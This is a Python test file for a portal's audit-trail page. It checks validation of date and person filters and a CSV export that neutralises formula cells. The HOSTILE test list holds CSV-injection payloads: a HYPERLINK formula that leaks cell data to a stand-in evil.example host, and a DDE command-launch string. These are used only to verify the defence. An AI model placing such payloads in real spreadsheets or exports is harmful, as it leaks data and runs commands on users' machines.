"""The security trail's page filters (checked before identity is asked, days in Paris time) and its CSV export:
Excel's format, and no cell a spreadsheet would take for a formula (CSV injection)."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from portal.identity.v1 import account_pb2 as identity_pb

from gateway.i18n import CATALOGUES
from gateway.pages.trail_csv import BOM, COLUMNS, header, lines, neutral
from gateway.pages.trail_query import ACTIONS, action_options, parse

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")', "=1+1", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\uff1d1+1", "-"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_compute_is_made_text(cell: str) -> None:
    assert neutral(cell) == "'" + cell
    [[read]] = list(csv.reader(io.StringIO(lines([[cell]])), delimiter=";"))
    assert read == "'" + cell  # the csv module quotes what needs it; the cell comes back whole


@pytest.mark.parametrize("cell", ["V123456", "Emma Buyer", "wrong password (3/5)", "2026-03-05 14:04:05", "", "a=b",
                                  "198.51.100.7", "::1", "Jean-Luc"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert neutral(cell) == cell


def test_the_file_is_excels_french_csv() -> None:
    text = lines([["a;b", 'say "hi"', "two\nlines", "=1+1"]])
    assert text == '"a;b";"say ""hi""";"two\nlines";\'=1+1\r\n'
    assert BOM == "\ufeff"
    assert len(header("fr")) == len(COLUMNS) and header("fr")[0] != header("en")[0]


def test_every_action_has_a_label_in_both_languages() -> None:
    assert len(ACTIONS) == len(identity_pb.AuditAction.keys()) - 1
    for lang in ("fr", "en"):
        missing = [a for a in ACTIONS if f"admin.trail.action.{a}" not in CATALOGUES[lang].ids]
        assert missing == [], lang
        labels = [label for value, label in action_options(lang) if value]
        assert len(set(labels)) == len(ACTIONS), lang  # no two actions read alike


def test_filters_make_the_request_days_whole_in_paris_time() -> None:
    query = parse("fr", {"person": " v123456 ", "action": "LOGIN_FAILED", "from": "2026-03-29",
                         "to": "2026-03-29", "page": "abc"}, "12345A")
    assert query.valid and query.values["person"] == "V123456" and query.page_token == "abc"
    request = query.request
    assert request.WhichOneof("subject") == "identifier" and request.identifier == "V123456"
    assert list(request.actions) == [identity_pb.AUDIT_ACTION_LOGIN_FAILED]
    # The day clocks go forward in Paris: 23 hours, from 00:00 (UTC+1) to the next 00:00 (UTC+2).
    assert request.since.ToDatetime(tzinfo=dt.UTC) == dt.datetime(2026, 3, 28, 23, tzinfo=dt.UTC)
    assert request.until.ToDatetime(tzinfo=dt.UTC) == dt.datetime(2026, 3, 29, 22, tzinfo=dt.UTC)
    everyone = parse("en", {}, "12345A")
    assert everyone.valid and everyone.request.cofor_root == "12345A" and not everyone.request.actions
    assert not everyone.request.HasField("since") and not everyone.request.HasField("until")


@pytest.mark.parametrize(("params", "field"), [
    ({"person": "Emma"}, "person"), ({"person": "V12345"}, "person"), ({"person": "12345A"}, "person"),
    ({"action": "DROP_TABLE"}, "action"), ({"action": "UNSPECIFIED"}, "action"),
    ({"from": "31/03/2026"}, "from"), ({"from": "20260301"}, "from"), ({"to": "2026-02-30"}, "to"),
    ({"from": "0001-01-01"}, "from"),
    ({"from": "2026-04-02", "to": "2026-04-01"}, "to"), ({"page": "x" * 501}, ""), ({"page": "é"}, "")])
def test_a_bad_filter_is_an_error_next_to_its_field(params: dict[str, str], field: str) -> None:
    query = parse("fr", params, "12345A")
    assert not query.valid
    assert list(query.form.errors) == ([field] if field else [])
    assert query.form.summary


def test_a_typed_company_is_never_the_subject() -> None:
    query = parse("fr", {"cofor_root": "OTHER1", "cofor": "OTHER1", "identifier": "V000001"}, "12345A")
    assert query.valid and query.request.cofor_root == "12345A"
